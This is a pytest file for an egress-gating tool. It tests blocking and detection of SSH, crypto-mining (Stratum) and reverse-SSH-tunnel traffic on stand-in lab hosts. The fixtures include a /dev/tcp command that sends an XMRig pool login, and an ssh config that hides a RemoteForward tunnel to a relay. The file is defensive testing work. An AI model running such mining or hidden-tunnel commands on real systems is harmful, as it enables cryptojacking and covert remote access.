"""The inline gate in `egress run`: an allowed address spoken to in SSH or Stratum is stopped
before its first payload byte leaves (the lab's servers record every byte they receive);
TLS to the same kind of rule passes; audit mode lets it through and flags it."""

import json
import os
import subprocess
import time

from tests.lab.test_run import EGRESS, stored

PURPOSE = '''version = 1
purpose = "Install dependencies from the lab's index"
task = "lab-gate"

[[allow]]
host = "pypi.lab"

[[allow]]
host = "cdn.lab"

[[allow]]
host = "pool.lab"
ports = [3333]
protocol = "any"
'''

LOGIN = ('{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4Ab","pass":"x",'
         '"agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0"}}')


def setup(lab):
    lab.start_dns({"pypi.lab": "203.0.113.10", "cdn.lab": "203.0.113.30",
                   "pool.lab": "198.51.100.42"})
    lab.start_https("pypi.lab", "203.0.113.10")
    return (lab.start_listener("203.0.113.30", 443),
            lab.start_listener("198.51.100.42", 3333))


def run(lab, mode):
    purpose = lab.dir / "purpose.toml"
    purpose.write_text(PURPOSE)
    script = ("curl -sk --max-time 5 -o /dev/null -w 'tls %{http_code}\\n' https://pypi.lab/; "
              "ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no -p 443 "
              "cdn.lab true; echo ssh=$?; "
              f"timeout 3 bash -c 'exec 3<>/dev/tcp/pool.lab/3333; echo {json.dumps(LOGIN)} >&3; "
              "sleep 1'; echo stratum=$?")
    return lab.host(EGRESS, "run", "--task", "lab-gate", "--purpose", purpose, "--mode", mode,
                    "--db", lab.dir / "egress.db", "--", "sh", "-c", script, timeout=90,
                    check=False)


def test_enforce_stops_ssh_and_stratum_on_allowed_addresses_before_a_byte_leaves(lab):
    ssh_got, pool_got = setup(lab)
    done = run(lab, "enforce")
    assert "tls 200" in done.stdout, done.stdout + done.stderr
    assert "ssh=255" in done.stdout
    assert ssh_got.read_bytes() == b""          # no client banner reached the server
    assert pool_got.read_bytes() == b""         # no login reached the pool
    assert "2 blocked before their first payload left" in done.stderr, done.stderr
    records = {r["dport"]: r for r in stored(lab) if r.get("kind") == "flow"
               and r["dst"] in ("203.0.113.30", "198.51.100.42")}
    assert records[443]["app"] == "ssh" and records[443]["verdict"] == "block"
    assert records[3333]["app"] == "stratum" and records[3333]["verdict"] == "block"
    assert "mining-stratum" in {f["id"] for f in records[3333]["findings"]}


def test_audit_lets_them_through_and_flags_them(lab):
    ssh_got, pool_got = setup(lab)
    done = run(lab, "audit")
    assert "tls 200" in done.stdout, done.stdout + done.stderr
    assert ssh_got.read_bytes().startswith(b"SSH-2.0-")
    assert b'"method":"login"' in pool_got.read_bytes()
    verdicts = {r["dport"]: r["verdict"] for r in stored(lab) if r.get("kind") == "flow"
                and r["dst"] in ("203.0.113.30", "198.51.100.42")}
    assert verdicts == {443: "flag", 3333: "flag"}


def test_kill_on_critical_ends_the_whole_task_and_says_why(lab):
    _, pool_got = setup(lab)
    purpose = lab.dir / "purpose.toml"
    purpose.write_text(PURPOSE)
    script = (f"timeout 3 bash -c 'exec 3<>/dev/tcp/pool.lab/3333; echo {json.dumps(LOGIN)} >&3;"
              " sleep 1'; sleep 20; echo survived")
    started = time.monotonic()
    done = lab.host(EGRESS, "run", "--task", "lab-gate", "--purpose", purpose,
                    "--mode", "enforce", "--kill-on", "critical", "--db", lab.dir / "egress.db",
                    "--", "sh", "-c", script, timeout=60, check=False)
    assert time.monotonic() - started < 15 and "survived" not in done.stdout, done.stderr
    assert done.returncode == 128 + 9
    assert pool_got.read_bytes() == b""
    (killed,) = [r for r in stored(lab) if r.get("event") == "task-killed"]
    assert {f["id"] for f in killed["findings"]} >= {"mining-stratum"}


def test_daemons_end_with_the_command(lab):
    setup(lab)
    purpose = lab.dir / "purpose.toml"
    purpose.write_text(PURPOSE)
    marker = f"{os.getpid() % 1000 + 3000}"
    done = lab.host(EGRESS, "run", "--task", "lab-gate", "--purpose", purpose, "--no-store",
                    "--", "sh", "-c", f"setsid sleep {marker} & echo started", timeout=60)
    assert "started" in done.stdout
    time.sleep(0.5)
    left = subprocess.run(["pgrep", "-f", f"^sleep {marker}$"], capture_output=True, text=True)
    assert left.stdout == "", left.stdout


def tunnel_until_cut(lab, log: str, first_packets: int | None = None) -> tuple[int, str]:
    """`ssh -N` to the relay with -R hidden in a config file (the command line says
    nothing), run by egress run in enforce mode; someone at the relay uses the forwarded
    port until it stops answering. How many requests it served, and egress run's output."""
    lab.start_dns({"relay.lab": "198.51.100.7"})
    key = lab.start_sshd("198.51.100.7", 22)
    shared = lab.shared_dir()
    (shared / "key").write_bytes(key.read_bytes())
    (shared / "config").write_text(
        "Host relay.lab\n  User root\n  StrictHostKeyChecking no\n"
        "  UserKnownHostsFile /dev/null\n  BatchMode yes\n"
        "  RemoteForward 9000 127.0.0.1:8080\n")
    options = []
    if first_packets is not None:
        (shared / "egress.toml").write_text(f"[netfilter]\nfirst_packets = {first_packets}\n")
        options = ["--config", shared / "egress.toml"]
    for path, mode in ((shared, 0o755), (shared / "config", 0o644), (shared / "key", 0o644)):
        os.chmod(path, mode)                 # ssh refuses a key others can read: copied
    purpose = lab.dir / "ssh.toml"
    purpose.write_text('version = 1\npurpose = "Deploy to the relay"\ntask = "lab-gate"\n'
                       '[[allow]]\nhost = "relay.lab"\nports = [22]\nprotocol = "ssh"\n')
    script = ("python3 -m http.server 8080 --bind 127.0.0.1 >/dev/null 2>&1 & "
              f"cp {shared}/key /tmp/k.$$; chmod 600 /tmp/k.$$; "
              f"ssh -F {shared}/config -i /tmp/k.$$ -N relay.lab; echo ssh ended $?; "
              "rm -f /tmp/k.$$")
    run = lab.spawn("host", EGRESS, *options, "run", "--task", "lab-gate", "--purpose",
                    purpose, "--mode", "enforce", "--db", lab.dir / "egress.db", "--", "sh",
                    "-c", script, log=log)
    lab.wait_port("127.0.0.1", 9000, timeout=20)
    served = 0
    for _ in range(12):
        got = lab.net("curl", "-s", "-m", "2", "-o", "/dev/null", "-w", "%{http_code}",
                      "http://127.0.0.1:9000/", check=False)
        if got.stdout != "200":
            break
        served += 1
        time.sleep(0.4)
    assert run.wait(timeout=30) == 0
    return served, (lab.dir / log).read_text()


def test_a_reverse_tunnel_found_while_open_is_cut(lab):
    """The tunnel is found from its traffic while it runs, its conntrack entry marked
    blocked and its socket destroyed."""
    served, log = tunnel_until_cut(lab, "late.log")
    assert 3 <= served < 12, log
    assert "ssh ended" in log and "cut 198.51.100.7:22 while open" in log, log
    ssh = [r for r in stored(lab) if r.get("kind") == "flow" and r["dport"] == 22]
    assert ssh and "reverse-ssh-tunnel" in {f["id"] for f in ssh[0]["findings"]}
    assert ssh[0]["verdict"] == "block"


def test_a_tunnel_used_only_after_the_first_packets_is_found_from_the_headers_feed(lab):
    """Only the first 16 packets of each flow and direction are logged whole (a config
    key): key exchange and authentication use them up, so the forwarded requests are seen
    only through the headers-only feed that follows watched (SSH) flows."""
    served, log = tunnel_until_cut(lab, "watch.log", first_packets=16)
    assert 3 <= served < 12 and "cut 198.51.100.7:22 while open" in log, log
    (ssh,) = [r for r in stored(lab) if r.get("kind") == "flow" and r["dport"] == 22]
    assert ssh["observed"] == "first-packets+watch"
    assert ssh["packets_out"] > 16 and ssh["packets_in"] > 16
    (found,) = [f for f in ssh["findings"] if f["id"] == "reverse-ssh-tunnel"]
    assert found["evidence"]["source"] == "traffic"
